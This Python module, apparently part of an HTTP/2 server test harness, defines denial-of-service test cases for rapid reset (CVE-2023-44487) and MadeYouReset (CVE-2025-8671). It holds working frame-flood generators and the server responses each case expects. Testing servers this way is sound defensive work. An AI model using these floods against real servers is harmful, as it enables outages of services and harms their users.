# SPDX-License-Identifier: Apache-2.0
"""Streams that are begun to be ended: rapid reset (CVE-2023-44487) and MadeYouReset (CVE-2025-8671), where the server
is made to reset by itself."""

import struct

from attack import Attack
from peer import DATA, PRIORITY, WINDOW_UPDATE, block, frame, reset, window_update
import traffic

CALM = ("ENHANCE_YOUR_CALM",)
# A server that treats the cause as the connection's fault ends it at once.
CALM_OR_CAUSE = ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "FLOW_CONTROL_ERROR", "STREAM_CLOSED", "FRAME_SIZE_ERROR")
MOST = 2_000_000  # frames in all: more than anybody sends in the time that an attack has


def streams(make, together=200):
    """make(stream) for one stream after the other, in pieces of 200."""
    for first in range(1, MOST, 2 * together):
        yield b"".join(make(stream) for stream in range(first, first + 2 * together, 2))


def resetting(make, **options):
    return lambda stage: stage.dial(**options).open().flood(streams(make), 2.5)


def provoking(cause, call=traffic.call):
    """A call, then what is wrong with it."""
    return resetting(lambda stream: call(stream) + cause(stream))


def announced(length):
    fields = block(traffic.UNARY, content_length=str(length))
    return lambda stream: traffic.call(stream, fields)


ATTACKS = [
    Attack("rapid reset: HEADERS, RST_STREAM",
           resetting(lambda stream: traffic.headers(stream) + reset(stream)), 2, CALM),
    Attack("rapid reset: whole calls, RST_STREAM",
           resetting(lambda stream: traffic.call(stream) + reset(stream)), 2, CALM),
    Attack("rapid reset, and nothing is read",
           lambda stage: stage.dial(reading=False).flood(
               streams(lambda stream: traffic.call(stream) + reset(stream)), 2.5), 2, CALM),
    Attack("MadeYouReset: WINDOW_UPDATE of 0",
           provoking(lambda stream: window_update(stream, 0)), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: window beyond 2^31-1",
           provoking(lambda stream: window_update(stream, 2**31 - 1) * 2), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: window beyond 2^31-1, call unfinished",
           resetting(lambda stream: traffic.headers(stream) + window_update(stream, 2**31 - 1) * 2), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: DATA after END_STREAM",
           provoking(lambda stream: frame(DATA, 0, stream, b"x")), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: HEADERS after END_STREAM",
           provoking(lambda stream: traffic.headers(stream, end=True)), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: PRIORITY of 4 bytes",
           provoking(lambda stream: frame(PRIORITY, 0, stream, bytes(4))), 2, CALM_OR_CAUSE),
    Attack("MadeYouReset: WINDOW_UPDATE of 3 bytes",
           provoking(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(3))), 2, CALM_OR_CAUSE),
    # PRIORITY is not acted upon: these are calls like others, and as dear.
    Attack("MadeYouReset: PRIORITY on itself",
           provoking(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))), processor=5),
    # The length that counts is the one before the message: what content-length says is not looked at.
    Attack("MadeYouReset: more DATA than content-length", resetting(announced(3)), processor=5),
    # Ends as one that resets too much, or as one that does not read its refusals as fast as it causes them: unheard.
    Attack("streams beyond the limit: 100,000 calls that are not finished",
           resetting(lambda stream: traffic.headers(stream)), 2),
]
